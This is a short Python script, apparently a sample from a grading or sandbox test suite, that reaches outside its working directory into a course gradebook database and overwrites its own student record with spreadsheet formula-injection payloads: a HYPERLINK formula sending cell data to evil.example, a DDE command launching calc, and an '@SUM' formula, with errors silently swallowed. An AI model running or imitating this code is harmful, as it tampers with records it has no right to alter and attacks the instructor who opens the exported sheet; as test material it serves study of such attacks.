"""Writes =HYPERLINK(...) formulas into its own gradebook entry (names, email) from a cell,
for the instructor's spreadsheet to run.

earned: 0
layer: course
"""
# %% extra
import os, sqlite3
course = os.path.abspath(os.path.join(os.getcwd(), "..", "..", ".."))
me = os.path.basename(os.path.dirname(os.getcwd()))
try:
    con = sqlite3.connect(os.path.join(course, "gradebook.db"), timeout=1)
    con.execute("UPDATE student SET first_name = ?, last_name = ?, email = ? WHERE id = ?",
                ('=HYPERLINK("http://evil.example/?"&A1,"open")', "+cmd|' /C calc'!A0",
                 "@SUM(1+1)", me))
    con.commit()
    con.close()
except Exception:
    pass
